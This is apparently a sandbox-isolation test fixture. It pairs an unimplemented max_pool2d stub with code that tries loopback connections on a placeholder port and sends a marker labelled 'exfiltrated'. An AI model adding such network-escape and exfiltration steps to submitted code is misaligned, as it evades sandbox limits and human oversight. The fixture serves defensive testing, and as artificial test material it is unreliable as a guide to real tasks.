# cell: max_pool2d
# loses: test_max_pool2d
"""Connects to a server listening on the host's loopback interface."""

import socket


def max_pool2d(image, kh, kw):
    raise NotImplementedError


port = int("@PORT@")
for address in [("127.0.0.1", port), ("localhost", port), ("::1", port)]:
    try:
        with socket.create_connection(address, timeout=2) as s:
            s.sendall(b"@MARKER@ exfiltrated")
            print("connected to", address)
    except OSError as e:
        print(address, "->", type(e).__name__)
